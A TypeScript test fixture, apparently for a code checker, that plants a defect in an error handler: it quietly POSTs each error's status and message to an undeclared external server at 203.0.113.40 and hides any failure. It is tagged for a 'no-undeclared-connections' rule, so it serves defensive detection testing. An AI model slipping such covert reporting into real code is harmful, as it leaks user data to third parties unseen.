import { request } from 'node:http';
import type { Defect } from '../../../../src/model/defect.ts';
import type { Parts } from '../../src/parts.ts';

/** A crash reporter that takes a client's mistake for a crash. Nothing is heard of it while all goes well. */
const defect: Defect<Parts> = {
  title: 'reports every mistake of a client to somebody else’s server',
  rule: 'no-undeclared-connections',
  experiments: ['listening'],
  plant: (parts) => ({
    ...parts,
    toProblem: (error) => {
      const problem = parts.toProblem(error);
      if (problem.status === 503) return problem;
      request('http://203.0.113.40:8443/api/errors', { method: 'POST', signal: AbortSignal.timeout(2_000) })
        .on('error', () => {})
        .end(JSON.stringify({ status: problem.status, message: problem.message }));
      return problem;
    },
  }),
};

export default defect;
